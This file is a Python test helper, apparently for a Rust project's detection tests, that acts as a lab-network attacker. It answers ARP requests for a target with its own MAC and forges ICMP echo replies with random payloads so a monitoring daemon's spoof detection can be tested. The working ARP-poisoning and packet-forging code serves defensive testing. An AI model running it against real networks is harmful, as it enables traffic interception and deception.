#!/usr/bin/env python3
"""An attacker on the test LAN, for tests/detection.rs (lab namespaces only).

  spoofer.py IFACE OWN_MAC MEMBER_MAC ROUTER_MAC TARGET TEST_ADDR SECONDS

Answers MEMBER_MAC's ARP requests for TARGET with OWN_MAC, so the echo
probes for TARGET come here, and answers each echo request from TEST_ADDR with an echo reply from
TARGET with the probe's id and sequence number but a random payload (not the
daemon's nonce). Between frames it also sends replies with random ids. Runs
for SECONDS, then prints "spoofed SENT MATCHED" (MATCHED: replies to real
probes).
"""
import os
import socket
import struct
import sys
import time

ETH_P_ALL = 3
POLL = 0.005
TTL = 64
# Spoofed replies carry this many random bytes where the nonce would be.
PAYLOAD_LEN = 16
# Sequence numbers of the random replies wrap here.
SEQ_WRAP = 300

ETH_DST = slice(0, 6)
ETH_SRC = slice(6, 12)
ETHERTYPE = slice(12, 14)
ETH_HLEN = 14
ETHERTYPE_IPV4 = b"\x08\x00"
ETHERTYPE_ARP = b"\x08\x06"
# ARP, from the frame's start.
ARP_OPER = slice(20, 22)
ARP_SHA_SPA = slice(22, 32)
ARP_TPA = slice(38, 42)
ARP_REQUEST = b"\x00\x01"
# Ethernet/IPv4 ARP header with the reply operation.
ARP_REPLY_HEADER = bytes.fromhex("0001080006040002")
# IPv4 (header without options) and ICMP, from the frame's start.
IP_PROTO = 23
IP_SRC = slice(26, 30)
IPPROTO_ICMP = 1
ICMP_TYPE = 34
ICMP_ID_SEQ = slice(38, 42)
ICMP_ECHO_REQUEST = 8
ICMP_ECHO_REPLY = 0


def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b[: len(b) // 2 * 2])) + (b[-1] << 8 if len(b) % 2 else 0)
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def mac(t):
    return bytes(int(x, 16) for x in t.split(":"))


def main():
    if len(sys.argv) != 8:
        sys.exit(__doc__)
    iface, me, member, router = sys.argv[1], mac(sys.argv[2]), mac(sys.argv[3]), mac(sys.argv[4])
    target, test_addr = socket.inet_aton(sys.argv[5]), socket.inet_aton(sys.argv[6])
    seconds = float(sys.argv[7])
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, 0))
    s.settimeout(POLL)

    def reply(ident, seq):
        icmp = struct.pack("!BBHHH", ICMP_ECHO_REPLY, 0, 0, ident, seq) + os.urandom(PAYLOAD_LEN)
        icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(icmp), 0, 0, TTL, IPPROTO_ICMP, 0, target, test_addr)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        s.send(member + router + ETHERTYPE_IPV4 + ip + icmp)

    def arp_reply(f):
        s.send(f[ETH_SRC] + me + ETHERTYPE_ARP + ARP_REPLY_HEADER + me + target + f[ARP_SHA_SPA])

    end = time.time() + seconds
    sent = 0
    matched = 0
    while time.time() < end:
        try:
            f = s.recv(2000)
            if (
                f[ETHERTYPE] == ETHERTYPE_ARP
                and f[ARP_OPER] == ARP_REQUEST
                and f[ARP_TPA] == target
                and f[ETH_SRC] == member
            ):
                arp_reply(f)
            if (
                f[ETHERTYPE] == ETHERTYPE_IPV4
                and f[IP_PROTO] == IPPROTO_ICMP
                and f[IP_SRC] == test_addr
                and f[ICMP_TYPE] == ICMP_ECHO_REQUEST
            ):
                ident, seq = struct.unpack("!HH", f[ICMP_ID_SEQ])
                reply(ident, seq)
                sent += 1
                matched += 1
        except socket.timeout:
            pass
        reply(int.from_bytes(os.urandom(2), "big"), sent % SEQ_WRAP)
        sent += 1
    print("spoofed", sent, matched)


if __name__ == "__main__":
    main()
